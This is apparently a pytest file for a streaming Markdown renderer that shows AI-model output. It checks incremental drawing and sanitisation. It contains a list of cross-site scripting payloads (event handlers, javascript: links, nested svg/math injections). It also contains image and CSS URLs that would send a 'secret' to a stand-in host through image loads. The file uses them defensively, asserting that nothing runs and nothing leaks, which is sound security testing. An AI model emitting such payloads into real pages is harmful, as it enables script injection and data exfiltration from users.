"""Markdown: what a model writes becomes safe nodes, and growing text is drawn block by block."""

import pytest

from tests.browser.markdown import Markdown
from tests.browser.python import Python

DOCUMENTS = {
    "words that turn out to be more": (
        "One two three. Four, five six  seven   \neight 9. ten\nfoo bar\n* baz qux\n\nfoo bar\n1. one two\n\n"
        "see http://a.example/b and www.a.example now, a@b.example too\n\n[foo]: b c d\n\n[foo] bar: baz\n\n"
        "a <div class b> c\n\nx _y_ z w_v_u *s* t **b** v &copy; w &am p; q \\, r\n\nfoo bar\n= baz\n\nfoo bar\n===\n\n"
        "a b | c\n--- | ---\nd e | f\n\n- a b c\n- d e\n\n# a b c\n\nnaïve 你好 世界 a b\n\nfoo bar\n    baz qux\n"
    ),
    "prose": ("# Title\n\nOne *two* **three** `four`\nfive.\n\nSix seven\neight.\n\n---\n\n> quoted\n> more\n\nEnd.\n"),
    "setext": "Title\n=====\n\ntext\nSub\n---\n\nrest\n---\nend\n\nA\n\n---\n\nB",
    "tight lists": "- a\n- b\n  - c\n  - d\n- e\n\nafter\n\n1. x\n2. y\n\n   more y\n3. z\n\ntext",
    "loose lists": (
        "- a\n\n- b\n\n  para\n\n      code in item\n\n- c\n\n* other\n\n\n* list\n\n1. one\n\n2. two\n\n10) ten\n"
    ),
    "list ends": "- a\n\n--\n\n- b\n\n---\n\n- c\n\ntext\n- d\nlazy\n\n  still d\n\nnot d\n",
    "tasks": "- [ ] open\n- [x] done\n\n1. [ ] n\n",
    "fences": (
        "```py\nprint(1)\n\nprint(2)\n```\n\ntext\n\n"
        "~~~\na\n```\nb\n~~~\ntext\n````md\n```\ninner\n```\n\n````\n\n    indented\n\n"
        "    more\n\nend\n```\nopen\n\n\nto the end\n\n"
    ),
    "tables": ("text\n\n| a | b |\n|---|:-:|\n| 1 | 2 |\n| 3 | `x\\|y` |\n\nafter\n\na | b\n--|--\n1 | 2\nrow\n\nend"),
    "references": (
        "See [one], [two][2] and [three].\n\n[one]: https://one.example\n\n"
        "More [one] and [two][2].\n\n[2]: https://two.example 'Title\nover lines'\n\n"
        "> [three]: https://three.example\n\nAgain [three], [one].\n\n"
        "[one]: https://late.example\n"
    ),
    "definition titles": "[a]: https://a.example\n'title\nmore'\n\n[a] [b]\n\n[b]: https://b.example\n\n'no title'\n",
    "html": (
        "<div>a\n\nb</div>\n\n<!-- note\n\nmore -->\n\ntext <b>bold</b> <script>x</script>\n\n"
        "<details><summary>s</summary>\n\ninner\n\n</details>\n\n<pre>\na\n\nb\n</pre>\n\nend"
    ),
    "line ends": "one\r\ntwo\r\n\r\n- a\r\n- b\r\n\r\n\rthree\r\rfour",
    "odd space": "  \n\n   text\n \t \nmore\n\n\n\n\n    code\n\n\n\tafter tab\n\n",
    "a long list": "".join(f"- {n}\n" for n in range(60)) + "\n- now it is loose\n\nend",
    "a long numbered list": "".join(f"{n}. [ ] *a*\n" for n in range(3, 30)) + "1. <b>x</b>\n\n- [ ] end\n",
    "a long table": "| a | b |\n|---|---|\n" + "| 1 | *2* |\n" * 52 + "\nend",
    "a long quote": "> a\n>\n" * 28 + "> - b\n\nend",
    "constructor": "[constructor] [__proto__] [toString]\n\n[x]: https://x.example\n\n[constructor] [x]\n",
}


OURS = {
    "code": {"class"},
    "table": {"dir", "tabindex"},
    "ul": {"dir"},
    "ol": {"dir"},
    "blockquote": {"dir"},
}
"""What the markup has from us, or may keep, by tag."""


@pytest.mark.parametrize("text", DOCUMENTS.values(), ids=DOCUMENTS)
def test_a_text_drawn_as_it_grows_ends_as_if_drawn_at_once(markdown: Markdown, text: str) -> None:
    assert (
        markdown(
            """
            whole = renderer.render(given)
            wrong = []
            for step in (1, 2, 3, 7):
                for start in range(step):
                    node.replaceChildren()
                    view = MarkdownView(node, renderer)
                    for end in range(start, len(given), step):
                        view.draw(given[:end])
                    view.draw(given, done=True)
                    if node.innerHTML != whole:
                        wrong.append([step, start, node.innerHTML, whole])
            for cut in range(len(given)):
                node.replaceChildren()
                view = MarkdownView(node, renderer)
                view.draw(given[:cut])
                view.draw(given, done=True)
                if node.innerHTML != whole:
                    wrong.append([cut, node.innerHTML, whole])
            result = wrong[:1]
            """,
            given=text,
        )
        == []
    )


@pytest.mark.parametrize("text", DOCUMENTS.values(), ids=DOCUMENTS)
def test_every_draw_on_the_way_shows_what_is_there_so_far(markdown: Markdown, text: str) -> None:
    # A link whose definition comes later is behind until the last draw: it is still its own source.
    assert (
        markdown(
            """
            import re
            def shown(container):
                links_are_late = "]: " in given
                return re.sub(r"[][2]", "", container.textContent) if links_are_late else container.innerHTML
            wrong = []
            for end in range(len(given)):
                view.draw(given[:end])
                fresh = js.document.createElement("div")
                MarkdownView(fresh, renderer).draw(given[:end])
                if shown(node) != shown(fresh):
                    wrong.append([given[:end], shown(node), shown(fresh)])
            result = wrong[:1]
            """,
            given=text,
        )
        == []
    )


def test_a_finished_block_keeps_its_node_and_the_selection_in_it(markdown: Markdown) -> None:
    assert markdown("""
        text = "Intro\\n\\n```py\\nprint(1)\\n```\\n\\n"
        view.draw(text)
        pre, intro = node.querySelector("pre"), node.querySelector("p")
        js.getSelection().selectAllChildren(pre)
        for step in range(200):
            text += f"word{step} " if step % 20 else "\\n\\n- item\\n"
            view.draw(text)
        view.draw(text, done=True)
        kept = [node.querySelector("pre") == pre, node.querySelector("p") == intro]
        result = [*kept, js.getSelection().toString().strip()]
        """) == [True, True, "print(1)"]


LONG = {
    "list": "".join(f"- item {n}\n" for n in range(500)),
    "table": "| a | b |\n|---|---|\n" + "".join(f"| {n} | 2 |\n" for n in range(500)),
    "quote": "".join(f"> line {n}\n>\n" for n in range(500)),
}


@pytest.mark.parametrize("text", LONG.values(), ids=LONG)
def test_what_is_added_to_a_long_block_leaves_most_of_it_as_it_is(markdown: Markdown, text: str) -> None:
    assert markdown(
        """
        view.draw(given)
        before = list(node.querySelectorAll("li, tr, p"))
        view.draw(given + given.splitlines()[-2] + "\\n" + given.splitlines()[-1].replace("499", "500") + "\\n")
        after = list(node.querySelectorAll("li, tr, p"))
        result = [len(after) > len(before), node.childElementCount, before[:470] == after[:470]]
        """,
        given=text,
    ) == [True, 1, True]


def test_a_definition_that_comes_last_redraws_only_the_blocks_it_changes(markdown: Markdown) -> None:
    assert markdown("""
        view.draw("See [x].\\n\\n```\\ncode\\n```\\n\\nmore\\n\\nend")
        pre = node.querySelector("pre")
        view.draw("See [x].\\n\\n```\\ncode\\n```\\n\\nmore\\n\\nend\\n\\n[x]: https://x.example", done=True)
        result = [node.querySelector("pre") == pre, node.querySelector("a").href]
        """) == [True, "https://x.example/"]


def test_a_text_that_became_another_one_is_drawn_anew(markdown: Markdown) -> None:
    assert markdown("""
        view.draw("one\\n\\ntwo\\n\\nthree\\n\\nfour")
        view.draw("*other*\\n\\ntext", done=True)
        first = node.innerHTML
        view.draw("*other*\\n\\ntext and more", done=True)
        result = [first, node.innerHTML]
        """) == ["<p><em>other</em></p><p>text</p>", "<p><em>other</em></p><p>text and more</p>"]


# What a model writes is safe


PAYLOADS = (
    "<script>hacked = 1</script>",
    "<img src=x onerror='hacked = 1'>",
    "<svg><style><img src=x onerror='hacked = 1'></style></svg>",
    "<svg onload='hacked = 1'><animate onbegin='hacked = 1'>",
    "<math><mtext><table><mglyph><style><img src=x onerror='hacked = 1'>",
    "<iframe src='javascript:hacked = 1'></iframe>",
    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "<form action='/x'><input name=q><button autofocus onfocus='hacked = 1'>x</button></form>",
    "<a href='javascript:hacked = 1'>x</a> [x](javascript:hacked=1) [x](data:text/html,x) [x](vbscript:x)",
    "[x](java\tscript:hacked=1) [y]( javascript&colon;hacked=1) <javascript:hacked=1>",
    "<div style='position: fixed; inset: 0' class='confirm' part='confirm' data-action='approve' aria-label=x>x</div>",
    "<p id='root' name='body' slot='empty' is='x-y' contenteditable>x</p>",
    "<style>* { display: none }</style><link rel=stylesheet href=/x.css><base href=//x><meta http-equiv=refresh>",
    "```x onmouseover=hacked=1 class\ncode\n```",
    "<ag-ui-chat endpoint='/x'></ag-ui-chat><object data=x></object><embed src=x><video src=x autoplay></video>",
    "<details open ontoggle='hacked = 1'><summary>x</summary></details><template><script>hacked=1</script></template>",
    "| a |\n|---|\n| <img src=x onerror=hacked=1> |\n\n- <b onclick=hacked=1>x</b>\n\n> <audio src=x onerror=hacked=1>",
)
ATTRIBUTES = {"href", "target", "rel", "title", "align", "alt", "checked", "disabled", "type", "start", "aria-label"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_a_model_writes_runs_or_dresses_up(markdown: Markdown, python: Python, payload: str) -> None:
    seen = markdown(
        """
        for end in range(len(given)):
            view.draw(given[:end])
        view.draw(given, done=True)
        result = [
            [each.localName, [[a.name, a.value] for a in each.attributes]] for each in node.querySelectorAll("*")
        ]
        """,
        given=payload,
    )
    for tag, attributes in seen:
        allowed = ATTRIBUTES | OURS.get(tag, set())
        assert {name for name, _ in attributes} <= allowed, (tag, attributes)
        for name, value in attributes:
            assert name != "href" or value.startswith(("http://", "https://", "mailto:")), value
            assert name != "class" or value.startswith("language-"), value
        assert tag not in ("script", "style", "iframe", "svg", "math", "img", "form", "button", "video", "ag-ui-chat")
    python.page.wait_for_timeout(50)  # an event handler, if there were one, would have run by then
    assert python.page.evaluate("hacked") == 0


LEAKS = (
    "![a chart](https://leak.example/p.png?d=secret) ![](https://leak.example/q.png)"
    " <img src='https://leak.example/r.png' srcset='https://leak.example/s.png 2x' alt='raw'>"
    " <p style='background: url(https://leak.example/t.png)'>x</p> <video poster='https://leak.example/u'></video>"
)


def test_an_image_is_its_alternative_text_and_asks_nobody_for_anything(markdown: Markdown, python: Python) -> None:
    asked: list[str] = []
    python.page.on("request", lambda request: asked.append(request.url))
    shown = markdown("view.draw(given, done=True)\nresult = node.textContent.split()", given=LEAKS)
    python.page.wait_for_timeout(100)  # a request, if there were one, would have been made by then
    assert shown == ["a", "chart", "raw", "x"]
    assert [url for url in asked if "leak" in url] == []


def test_an_image_is_shown_where_the_host_allowed_it(markdown: Markdown) -> None:
    assert markdown("""
        view.draw("![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)")
        before = node.innerHTML
        view.draw("![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)", allow_images=True)
        result = [before, node.querySelector("img").alt, "img" in renderer.render("![a](https://x.example)")]
        """) == ["<p>dot</p>", "dot", False]


def test_links_open_elsewhere_and_tasks_are_nobodys_to_change(markdown: Markdown) -> None:
    assert markdown("""
        text = "[a](https://a.example) <mail@a.example>\\n\\n- [x] done\\n\\n<input type=text><input type=checkbox>"
        view.draw(text, done=True)
        links = [[link.target, link.rel] for link in node.querySelectorAll("a")]
        boxes = [[box.type, box.disabled, box.checked, box.ariaLabel] for box in node.querySelectorAll("input")]
        result = [links, boxes]
        """) == [[["_blank", "noopener noreferrer"]] * 2, [["checkbox", True, True, "done"]]]


def test_single_line_breaks_are_kept_and_a_nul_is_harmless(markdown: Markdown) -> None:
    assert markdown("result = renderer.render('a\\nb\\n\\nc\\0d')") == "<p>a<br>b</p><p>c\ufffdd</p>"


def test_what_is_nested_too_deep_is_shown_as_it_is(markdown: Markdown) -> None:
    assert markdown("""
        deep = ">" * 20000 + " <b>x</b>"
        view.draw("before\\n\\n" + deep, done=True)
        result = [node.textContent.endswith("x") or "<b>x</b>" in node.textContent, "before" in node.textContent]
        """) == [True, True]
